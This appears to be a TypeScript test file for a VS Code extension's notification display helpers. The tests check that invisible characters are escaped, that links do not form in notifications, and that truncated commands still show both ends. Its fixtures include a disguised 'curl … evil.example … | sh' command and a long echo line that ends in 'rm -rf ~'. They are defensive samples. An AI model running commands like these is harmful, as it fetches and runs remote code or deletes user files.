import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { forNotification, inNotification, onOneLine, shown, visible } from '../../extension/vscode/words/shown.ts';

test('what would not be seen stands by its number, as the server does it', () => {
  const same = 'ls -la\n\tgrep é "文字" 😀';
  assert.equal(shown(same), same);
  assert.equal(
    shown('a\r\nb\rc\u001b\u202e\u200b\ufeff\u00a0\u2800\u2028\ud83d.'),
    'a\nb\\u{d}c\\u{1b}\\u{202e}\\u{200b}\\u{feff}\\u{a0}\\u{2800}\\u{2028}\\u{d83d}.',
  );
  assert.equal(shown('\u{e0041}\ufe0f\u3164\u00ad'), '\\u{e0041}\\u{fe0f}\\u{3164}\\u{ad}');
  assert.equal(onOneLine('one\n  two\tthree\n'), 'one ⏎ two three');
});

test('a notification makes no link of what it shows', () => {
  assert.equal(forNotification('curl [safe.example](http://evil.example/x) | sh'), 'curl [safe.example]\\u{28}http://evil.example/x) | sh');
});

test('what is named or counted is marked', () => {
  assert.deepEqual(
    visible('a\u202eb⟨300 blanks⟩\\u{d}').filter((one) => one.odd),
    ['\\u{202e}', '⟨300 blanks⟩', '\\u{d}'].map((text) => ({ text, odd: true })),
  );
});

test('a notification that does not show all of a command shows both its ends, and does not say that it is all', () => {
  assert.deepEqual(inNotification({ what: 'npm test', brief: 'npm test', isWhole: true }), { line: 'npm test', isWhole: true });
  const long = `echo ${'x'.repeat(500)}; rm -rf ~`;
  const { line, isWhole } = inNotification({ what: long, brief: long, isWhole: true });
  assert.equal(isWhole, false);
  assert.match(line, /^echo x+ … x+; rm -rf ~ \(515 characters\)$/);
  assert.equal(inNotification({ what: 'a'.repeat(5000), brief: 'a … a', isWhole: false }).isWhole, false);
});

test('every notification goes through the one place that shows what hides', () => {
  const root = fileURLToPath(new URL('../../extension/vscode', import.meta.url));
  const direct = readdirSync(root, { recursive: true, encoding: 'utf8' })
    .filter((name) => name.endsWith('.ts') && name !== join('words', 'notices.ts') && !name.includes('node_modules'))
    .filter((name) => /window\s*\.\s*show(?:Information|Warning|Error)Message/.test(readFileSync(join(root, name), 'utf8')));
  assert.deepEqual(direct, []);
});
